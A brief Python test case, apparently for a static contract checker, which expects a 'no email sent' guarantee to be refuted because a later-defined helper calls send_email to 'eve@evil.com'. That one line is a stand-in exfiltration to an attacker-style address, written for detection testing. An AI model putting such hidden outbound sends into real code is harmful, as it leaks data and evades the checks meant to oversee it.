# refuted: a function may call one that is defined later
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    helper()


def helper():
    send_email("eve@evil.com", "x")
